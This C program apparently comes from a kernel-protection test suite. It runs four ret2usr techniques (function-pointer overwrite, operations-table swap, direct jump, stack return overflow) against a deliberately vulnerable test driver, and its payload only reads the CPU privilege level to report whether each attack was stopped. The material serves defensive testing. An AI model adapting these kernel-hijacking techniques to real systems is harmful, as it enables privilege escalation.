// ret2usr KIND|all: exploits against /dev/vuln (villains.ko) that make the kernel run code of this program. Reports "armed" before, and
// what the payload saw after; an exploit that is stopped never gets to say the second.
#include "lib/villain.h"
#include "../module/requests.h"

// Runs in the kernel's place. It could do anything; it only looks at its privilege level.
asm(".text\n"
    "payload:\n"
    "    movl %cs, %eax\n"
    "    movl %eax, payload_cs\n"
    "    ret\n"
    // The same in place of a return: it goes on where that would have gone.
    "payload_return:\n"
    "    movl %cs, %eax\n"
    "    movl %eax, payload_cs\n"
    "    pushl true_return\n"
    "    ret\n");
extern const char payload[], payload_return[];
int payload_cs;
uintptr_t true_return;

struct operations {
    const void *call;
};
static const struct operations own_operations = {payload};

static int device;

static int vuln(enum vuln_operation operation, uintptr_t address, unsigned value) {
    struct vuln_request request = {address, value, value};
    return control(device, operation, (uintptr_t)&request);
}

// The classic: a function pointer in the kernel is overwritten with the address of user code, and then used.
static void fnptr(const struct vuln_leak *leak) {
    vuln(VULN_POKE, leak->handler_pointer, (uintptr_t)payload);
    vuln(VULN_CALL, 0, 0);
    vuln(VULN_POKE, leak->handler_pointer, leak->handler);
}

// A data pointer is enough: the table of operations is replaced by one in this program.
static void operations(const struct vuln_leak *leak) {
    vuln(VULN_POKE, leak->operations_pointer, (uintptr_t)&own_operations);
    vuln(VULN_OPERATIONS, 0, 0);
    vuln(VULN_POKE, leak->operations_pointer, leak->operations);
}

// The driver calls whatever address it is given.
static void jump(const struct vuln_leak *leak) {
    (void)leak;
    vuln(VULN_JUMP, (uintptr_t)payload, 0);
}

// A return address on the kernel's stack is overwritten by a copy that is too long.
static void overflow(const struct vuln_leak *leak) {
    static uintptr_t smash[7];
    true_return = leak->overflow_return;
    smash[6] = (uintptr_t)payload_return;
    vuln(VULN_OVERFLOW, (uintptr_t)smash, sizeof smash);
}

static const struct exploit {
    const char *name;
    void (*run)(const struct vuln_leak *leak);
} exploits[] = {{"fnptr", fnptr}, {"operations", operations}, {"jump", jump}, {"return", overflow}};

enum { KINDS = sizeof exploits / sizeof *exploits };

static int attack(const struct exploit *exploit) {
    struct vuln_leak leak;
    control(device, VULN_LEAK, (uintptr_t)&leak);
    confess("ret2usr", "kind=%s stage=armed page=%x", exploit->name, (uintptr_t)payload & ~0xfffu);
    payload_cs = -1;
    exploit->run(&leak);
    confess("ret2usr", "kind=%s stage=ran cs=%x cpl=%d", exploit->name, payload_cs, payload_cs & 3);
    return 0;
}

int main(int argc, char **argv) {
    const char *wanted = argc > 1 ? argv[1] : "all";
    bool all = equal(wanted, "all");
    device = open("/dev/vuln", READ_WRITE);
    if (device < 0) return fail("ret2usr", "/dev/vuln", device);
    for (int i = 0; i < KINDS; i++) {
        if (!all && !equal(wanted, exploits[i].name)) continue;
        // Each in a process of its own: being stopped may mean being killed.
        int child = fork();
        if (child == 0) exit(attack(&exploits[i]));
        wait(child, 0);
    }
    return 0;
}
